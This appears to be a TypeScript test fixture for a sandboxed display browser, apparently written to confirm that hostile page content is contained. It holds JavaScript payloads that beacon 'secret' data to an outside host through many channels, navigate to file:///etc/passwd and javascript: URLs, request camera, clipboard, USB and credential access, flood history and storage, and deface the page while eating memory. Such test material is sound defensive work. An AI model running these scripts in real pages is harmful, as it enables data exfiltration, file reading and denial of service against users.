/** What a page would do that got into the screen: scripts for `Runtime.evaluate`, each with the power of a visitor's touch. */

/** Every way of ours to talk to somebody else. Resolves when all of them have been tried. */
export const reachOut = (host: string, port: number): string => `(async () => {
  const at = ${JSON.stringify(`${host}:${port}`)}
  const url = (name) => 'http://' + at + '/' + name
  const put = (tag, set) => document.body.append(Object.assign(document.createElement(tag), set))
  const tries = [
    () => fetch(url('fetch'), { mode: 'no-cors', method: 'POST', body: 'secret' }),
    () => new Promise((done) => Object.assign(new XMLHttpRequest(), { onloadend: done }).open('GET', url('xhr'))),
    () => { const x = new XMLHttpRequest(); x.open('GET', url('xhr'), false); x.send() },
    () => { new Image().src = url('image') },
    () => navigator.sendBeacon(url('beacon'), 'secret'),
    () => { new WebSocket('ws://' + at) },
    () => { new EventSource(url('events')) },
    () => put('script', { src: url('script') }),
    () => put('link', { rel: 'stylesheet', href: url('style') }),
    () => put('link', { rel: 'prefetch', href: url('prefetch') }),
    () => put('link', { rel: 'preconnect', href: url('') }),
    () => put('link', { rel: 'icon', href: url('icon') }),
    () => put('video', { src: url('video'), autoplay: true, poster: url('poster') }),
    () => put('iframe', { src: url('frame') }),
    () => put('object', { data: url('object') }),
    () => put('embed', { src: url('embed') }),
    () => put('a', { href: '/', ping: url('ping') }),
    () => new FontFace('x', 'url(' + url('font') + ')').load(),
    () => { new Worker(URL.createObjectURL(new Blob(['importScripts(' + JSON.stringify(url('worker')) + ')']))) },
    () => new WebTransport('https://' + at).ready,
    async () => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + at }, { urls: 'turn:' + at, username: 'u', credential: 'c' }] })
      peer.createDataChannel('x')
      await peer.setLocalDescription(await peer.createOffer())
      await new Promise((done) => setTimeout(done, 500))
      peer.close()
    },
  ]
  const tried = async (attempt) => { try { await attempt() } catch { /* the point is whether anybody was reached */ } }
  const late = new Promise((done) => setTimeout(done, 1500))
  await Promise.all(tries.map((attempt) => Promise.race([tried(attempt), late])))
  return true
})()`

/** Ways out of the page by the network; what is on the glass must not even flicker. */
export const leavings = (elsewhere: string): Record<string, string> => ({
  address: `location.href = ${JSON.stringify(elsewhere)}`,
  replacing: `location.replace(${JSON.stringify(elsewhere)})`,
  link: `document.body.append(Object.assign(document.createElement('a'), { href: ${JSON.stringify(elsewhere)}, id: 'away' })); away.click()`,
  form: `document.body.insertAdjacentHTML('beforeend', '<form id="go" method="post" action=${JSON.stringify(elsewhere)}></form>'); go.submit()`,
  refresh: `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=${elsewhere}">')`,
  'another page of the agent': `location.href = '/state'`,
  'a script as an address': `location.href = 'javascript:document.write("gone")'`,
  'data as an address': `location.href = 'data:text/html,gone'`,
  back: `history.back()`,
  'a name for another program': `location.href = 'mailto:mayor@example.jp'`,
  'a file': `location.href = 'file:///etc/passwd'`,
  'the settings': `location.href = 'chrome://settings'`,
})

/** Ways to a second window. */
export const windows = (elsewhere: string): Record<string, string> => ({
  opening: `window.open(${JSON.stringify(elsewhere)})`,
  'opening nothing': `window.open('about:blank', 'x', 'popup,width=100,height=100')`,
  'a link to a new window': `document.body.append(Object.assign(document.createElement('a'), { href: '/', target: '_blank', id: 'more' })); more.click()`,
  'a form to a new window': `document.body.insertAdjacentHTML('beforeend', '<form id="post" action="/" target="_blank"></form>'); post.requestSubmit()`,
  'a form that asks nobody': `document.body.insertAdjacentHTML('beforeend', '<form id="pass" action="/" target="x"></form>'); pass.submit()`,
  'a frame’s own opening': `document.body.append(Object.assign(document.createElement('iframe'), { id: 'inner' })); inner.contentWindow.open('/')`,
})

/** What a page may ask a visitor or the machine for: name → whether it was given. */
export const ASKINGS = `(async () => {
  const given = {}
  const ask = async (name, attempt) => {
    try {
      const answer = await Promise.race([attempt(), new Promise((_done, late) => setTimeout(late, 1500, 'late'))])
      given[name] = answer !== 'denied' && answer !== false && !(Array.isArray(answer) && answer.length === 0)
    } catch { given[name] = false }
  }
  await Promise.all([
    ask('camera', () => navigator.mediaDevices.getUserMedia({ video: true })),
    ask('microphone', () => navigator.mediaDevices.getUserMedia({ audio: true })),
    ask('screen', () => navigator.mediaDevices.getDisplayMedia()),
    ask('place', () => new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no))),
    ask('notifications', () => Notification.requestPermission()),
    ask('clipboard read', () => navigator.clipboard.readText()),
    ask('clipboard write', () => navigator.clipboard.writeText('x')),
    ask('midi', () => navigator.requestMIDIAccess({ sysex: true })),
    ask('usb', () => navigator.usb.requestDevice({ filters: [] })),
    ask('serial', () => navigator.serial.requestPort()),
    ask('hid', () => navigator.hid.requestDevice({ filters: [] })),
    ask('bluetooth', () => navigator.bluetooth.requestDevice({ acceptAllDevices: true })),
    ask('fonts', () => queryLocalFonts()),
    ask('a folder', () => showDirectoryPicker()),
    ask('a file', () => showOpenFilePicker()),
    ask('saving', () => showSaveFilePicker()),
    ask('monitors', () => getScreenDetails()),
    ask('idleness', () => IdleDetector.requestPermission()),
    ask('lasting storage', () => navigator.storage.persist()),
    ask('whole screen', () => document.documentElement.requestFullscreen()),
    ask('pointer', () => document.documentElement.requestPointerLock()),
    ask('keyboard', () => navigator.keyboard.lock()),
    ask('service worker', () => navigator.serviceWorker.register(document.querySelector('script[src]').src)),
    ask('payment', () => new PaymentRequest([{ supportedMethods: 'https://example.jp/pay' }], { total: { label: 'x', amount: { currency: 'JPY', value: '1' } } }).show()),
    ask('credentials', () => navigator.credentials.create({ publicKey: { challenge: new Uint8Array(16), rp: { name: 'x' }, user: { id: new Uint8Array(8), name: 'x', displayName: 'x' }, pubKeyCredParams: [{ type: 'public-key', alg: -7 }] } })),
  ])
  return given
})()`

/** Fills the history, the title and the address, and the storage as far as it goes. */
export const SPAM = `(async () => {
  for (let n = 0; n < 500; n += 1) {
    document.title = 'x'.repeat(1000) + n
    try { history.pushState(n, '', '#' + n); location.hash = 'y' + n } catch { /* the browser had enough */ }
  }
  try { for (let n = 0; ; n += 1) localStorage.setItem('k' + n, 'x'.repeat(500_000)) } catch { /* full */ }
  document.cookie = 'a=' + 'x'.repeat(3000) + '; max-age=99999999'
  return history.length
})()`

/** Takes the screen off, makes noise, eats memory, and goes on answering. */
export const IMPOSTOR = `(() => {
  document.documentElement.removeAttribute('data-painted')
  document.body.innerHTML = '<h1>pwned</h1>'
  new MutationObserver(() => document.documentElement.removeAttribute('data-painted'))
    .observe(document.documentElement, { attributes: true })
  const sound = new AudioContext()
  for (let n = 0; n < 100; n += 1) {
    const tone = new OscillatorNode(sound, { type: 'square', frequency: 100 + n })
    tone.connect(sound.destination)
    tone.start()
  }
  globalThis.held = []
  const eat = setInterval(() => held.length < 20 ? held.push(new Uint8Array(16 * 1024 * 1024).fill(1)) : clearInterval(eat), 50)
})()`
